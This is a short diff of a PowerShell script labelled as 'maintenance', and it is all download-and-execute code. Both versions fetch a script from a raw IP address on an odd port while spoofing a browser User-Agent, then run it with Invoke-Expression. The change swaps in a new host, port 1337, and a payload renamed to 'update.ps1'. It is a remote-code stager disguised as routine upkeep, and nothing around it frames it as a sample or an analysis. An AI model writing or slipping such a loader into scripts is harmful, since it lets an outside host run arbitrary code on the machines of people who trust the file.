@@ -1,6 +1,6 @@
-# maintenance 0714 v1
-$u = 'http://203.0.113.17:8080/'
+# maintenance 8748 v1
+$u = 'http://198.51.100.23:1337/'
 $wc = New-Object System.Net.WebClient
 $wc.Headers.Add('User-Agent','Mozilla/5.0')
-$s = $wc.DownloadString($u + 'inv.ps1')
+$s = $wc.DownloadString($u + 'update.ps1')
 Invoke-Expression $s
